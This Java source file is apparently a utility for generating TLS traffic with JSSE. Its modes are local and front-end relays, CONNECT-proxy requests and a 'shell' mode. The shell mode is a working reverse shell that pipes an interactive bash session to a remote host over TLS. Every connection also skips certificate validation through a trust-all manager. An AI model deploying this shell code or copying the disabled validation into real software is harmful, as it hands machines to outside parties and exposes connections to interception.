// SPDX-License-Identifier: LGPL-2.1-or-later

import java.io.FileInputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.SSLSocketFactory;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** What Java programs do with TLS (JSSE): relays of both sides, a shell given away, requests through a proxy. */
public class Relay {
    static void copy(InputStream in, OutputStream out) {
        byte[] data = new byte[8192];
        try {
            for (int size; (size = in.read(data)) > 0; ) {
                out.write(data, 0, size);
                out.flush();
            }
            out.close();
        } catch (Exception end) {
            try {
                out.close();
            } catch (Exception again) {
                return;
            }
        }
    }

    static void join(Socket one, Socket other) throws Exception {
        InputStream in = one.getInputStream(), back = other.getInputStream();
        OutputStream out = other.getOutputStream(), forth = one.getOutputStream();
        new Thread(() -> copy(in, out)).start();
        new Thread(() -> copy(back, forth)).start();
    }

    static SSLContext context(String store) throws Exception {
        KeyManagerFactory keys = null;
        if (store != null) {
            KeyStore made = KeyStore.getInstance("PKCS12");
            made.load(new FileInputStream(store), "changeit".toCharArray());
            keys = KeyManagerFactory.getInstance("SunX509");
            keys.init(made, "changeit".toCharArray());
        }
        TrustManager trust = new X509TrustManager() {
            public void checkClientTrusted(X509Certificate[] chain, String kind) {}
            public void checkServerTrusted(X509Certificate[] chain, String kind) {}
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        SSLContext made = SSLContext.getInstance("TLS");
        made.init(keys == null ? null : keys.getKeyManagers(), new TrustManager[] {trust}, null);
        return made;
    }

    static SSLSocket dial(String host, int port) throws Exception {
        Socket plain = new Socket(host, port);
        plain.setTcpNoDelay(true);
        SSLSocket made = (SSLSocket) context(null).getSocketFactory().createSocket(plain, host, port, true);
        made.startHandshake();
        return made;
    }

    /** local PORT HOST PORT; front HOST PORT HOST PORT STORE; shell HOST PORT; get HOST PORT TARGET COUNT. */
    public static void main(String[] words) throws Exception {
        if (words[0].equals("local")) {
            try (ServerSocket wait = new ServerSocket(Integer.parseInt(words[1]), 9, InetAddress.getByName("127.0.0.1"))) {
                while (true) join(wait.accept(), dial(words[2], Integer.parseInt(words[3])));
            }
        } else if (words[0].equals("front")) {
            ServerSocket wait = context(words[5]).getServerSocketFactory().createServerSocket();
            wait.bind(new InetSocketAddress(words[1], Integer.parseInt(words[2])));
            while (true) join(wait.accept(), new Socket(words[3], Integer.parseInt(words[4])));
        } else if (words[0].equals("shell")) {
            SSLSocket there = dial(words[1], Integer.parseInt(words[2]));
            Process child = new ProcessBuilder("/bin/bash", "-i").redirectErrorStream(true).start();
            InputStream in = there.getInputStream(), said = child.getInputStream();
            OutputStream out = there.getOutputStream(), heard = child.getOutputStream();
            new Thread(() -> copy(in, heard)).start();
            copy(said, out);
        } else {
            SSLSocket outer = dial(words[1], Integer.parseInt(words[2]));
            String target = words[3], host = target.split(":")[0];
            outer.getOutputStream().write(("CONNECT " + target + " HTTP/1.1\r\nHost: " + target
                + "\r\nUser-Agent: Java/17.0.15\r\nProxy-Connection: keep-alive\r\n\r\n").getBytes());
            byte[] data = new byte[16384];
            outer.getInputStream().read(data);
            SSLSocketFactory made = context(null).getSocketFactory();
            SSLSocket inner = (SSLSocket) made.createSocket(outer, host, Integer.parseInt(target.split(":")[1]), true);
            for (int turn = 0; turn < Integer.parseInt(words[4]); turn++) {
                inner.getOutputStream().write(("GET /index.html HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\nHost: " + target
                    + "\r\nAccept: text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2\r\n\r\n").getBytes());
                for (int got = 0; got < 900; ) got += Math.max(1, inner.getInputStream().read(data));
            }
            inner.close();
        }
    }
}
